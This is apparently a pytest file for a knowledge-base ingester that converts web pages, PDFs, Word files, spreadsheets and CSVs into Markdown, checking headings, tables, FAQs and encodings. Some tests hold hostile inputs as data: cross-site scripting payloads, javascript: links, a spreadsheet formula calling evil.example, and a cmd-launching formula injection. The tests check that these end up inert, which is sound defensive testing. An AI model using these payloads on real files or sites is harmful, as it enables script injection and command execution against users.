"""Documents of every kind become Markdown that says what they said."""

from pathlib import Path

import pytest

from tests.unit.kb.documents import docx_file, pdf, rezipped, workbook
from workers.kb.passages import split
from workers.kb.sources import Document, read_sources

PAGE = """<html><head><title>Refunds | The Shop</title><link rel="canonical" href="https://shop.example/refunds">
<script type="application/ld+json">{"@graph": [{"@type": "FAQPage", "mainEntity": [
{"@type": "Question", "name": "How long?", "acceptedAnswer": {"text": "said again"}},
{"@type": "Question", "name": "Do you ship?", "acceptedAnswer": {"text": "<p>Yes, to <b>Canada</b>.</p>"}}]}]}</script>
<script>alert("script")</script><style>.x{}</style></head><body>
<header>Site</header><nav>Menu</nav><div class="cookie-banner">We like cookies</div>
<main><header><h1>Refunds</h1></header><p>Money<br>back, see <a href="https://shop.example/a">here</a> or
<a href="javascript:alert(1)">there</a>.</p>
<ul><li>card<ul><li>credit</li></ul></li><li>cash</li></ul>
<h2>Questions</h2><details><summary>How long?</summary><p>Five days.</p></details>
<dl><dt>Where?</dt><dd>In the shop.</dd></dl>
<div itemscope itemtype="https://schema.org/Question"><b itemprop="name">Who?</b>
<div itemprop="acceptedAnswer"><p itemprop="text">Anybody.</p></div></div>
<table><tr><th>Boat</th><th>Price</th></tr><tr><td>one</td><td>20</td></tr></table></main>
<footer>Imprint</footer></body></html>"""

PAGE_AS_MARKDOWN = """# Refunds

Money

back, see [here](https://shop.example/a) or there.

- card
  - credit
- cash

## Questions

### How long?

Five days.

### Where?

In the shop.

### Who?

Anybody.

| Boat | Price |
| --- | --- |
| one | 20 |

## Do you ship?

Yes, to Canada."""


def read(folder: Path, name: str, content: bytes | str) -> Document:
    (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
    (document,) = read_sources(folder).documents
    return document


def test_a_web_page_is_its_main_content(tmp_path: Path) -> None:
    page = read(tmp_path, "refunds.html", PAGE)
    assert page.text == PAGE_AS_MARKDOWN
    assert (page.title, page.url) == ("Refunds", "https://shop.example/refunds")


def test_questions_of_a_web_page_are_whole_passages(tmp_path: Path) -> None:
    found = {passage.heading: passage.text for passage in split(read(tmp_path, "a.htm", PAGE))}
    assert found["Questions > How long?"] == "Five days."
    assert found["Do you ship?"] == "Yes, to Canada."


@pytest.mark.parametrize(("url", "kept"), [("https://a.example/b", True), ("javascript:alert(1)", False)])
def test_front_matter_names_a_web_page_and_only_https_makes_it_a_link(tmp_path: Path, url: str, kept: bool) -> None:
    page = read(tmp_path, "a.html", f"---\ntitle: Named\nurl: {url}\n---\n<p>Text.</p>")
    assert (page.title, page.url, page.text) == ("Named", url if kept else None, "Text.")


@pytest.mark.parametrize(
    "content",
    [
        "<meta charset=iso-8859-1><p>Größe für alle Gäste</p>".encode("latin-1"),
        "<p>Größe für alle Gäste</p>".encode("utf-16"),
        "<p>Größe für alle Gäste</p>".encode(),
    ],
)
def test_a_web_page_is_read_in_its_encoding(tmp_path: Path, content: bytes) -> None:
    assert read(tmp_path, "a.html", content).text == "Größe für alle Gäste"


def test_a_pdf_is_its_pages_without_what_each_repeats(tmp_path: Path) -> None:
    pages = [f"The Kayak Shop\n{words}\nPage {n}" for n, words in enumerate(("On wa-\nter.", "In tents.", "At home."))]
    text = read(tmp_path, "rental-terms.pdf", pdf(*pages)).text
    assert " ".join(text.split()) == "On water. In tents. At home."


def test_a_word_processors_headings_lists_and_tables_are_kept(tmp_path: Path) -> None:
    document = read(tmp_path, "a.docx", docx_file())
    assert document.title == "Rentals"
    assert document.text == (
        "# Kayaks\n\nOn water.\n\n- a paddle\n- a vest\n\n"
        "| Boat | Price |\n| --- | --- |\n| one | 20 |\n\n\\# not a heading"
    )


@pytest.mark.parametrize(
    "header", [("Question", "Answer"), ("FRAGE", "Antwort"), ("Pregunta", "Respuesta"), ("question", "Réponse")]
)
def test_a_table_of_questions_is_a_faq(tmp_path: Path, header: tuple[str, str]) -> None:
    rows = ((*header, "Topic"), ("Do you ship", "To Canada.", "Post"), ("Rent?", "In May.", None))
    faq = "## Do you ship?\n\nTo Canada.\n\nTopic: Post\n\n## Rent?\n\nIn May."
    assert read(tmp_path, "faq.xlsx", workbook(*rows)).text == faq


def test_another_table_is_its_records(tmp_path: Path) -> None:
    assert read(tmp_path, "a.xlsx", workbook(("Boat", "Price"), ("one", 20), ("two", 30.5))).text == (
        "Boat: one\nPrice: 20\n\nBoat: two\nPrice: 30.5"
    )


def test_a_table_that_excel_saved_in_the_encoding_of_windows_is_read(tmp_path: Path) -> None:
    table = 'Frage;Antwort\r\nWas kostet die größte Tür?;"Fünf €;\r\nnur für Gäste"\r\n'
    assert read(tmp_path, "faq.csv", table.encode("cp1252")).text == (
        "## Was kostet die größte Tür?\n\nFünf €;\nnur für Gäste"
    )


def test_a_formula_is_read_as_its_value(tmp_path: Path) -> None:
    book = workbook(("Boat", "Price"), ("one", "=10*2"), ("two", '=WEBSERVICE("https://evil.example")'))
    sheet = "xl/worksheets/sheet1.xml"
    book = rezipped(book, sheet, b"<f>10*2</f><v></v>", b"<f>10*2</f><v>20</v>")
    book = rezipped(book, sheet, b"<f>10*2</f><v />", b"<f>10*2</f><v>20</v>")
    assert read(tmp_path, "a.xlsx", book).text == "Boat: one\nPrice: 20\n\nBoat: two"


HOSTILE = '<script>alert(1)</script> <img src=x onerror=alert(1)> =cmd|"/c calc"!A1 [a](javascript:alert(1))'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.csv", f"Question,Answer\nSafe?,'{HOSTILE}'".encode()),
        ("a.pdf", pdf(f"Safe? {HOSTILE}")),
        ("a.xlsx", workbook(("Question", "Answer"), ("Safe?", f"'{HOSTILE}"))),
        ("a.html", f"<h2>Safe?</h2><p onclick=evil()>{HOSTILE}</p>".encode()),
    ],
)
def test_what_is_hostile_is_only_text(tmp_path: Path, name: str, content: bytes) -> None:
    document = read(tmp_path, name, content)
    assert "Safe?" in document.text
    assert "calc" in document.text
    assert document.url is None
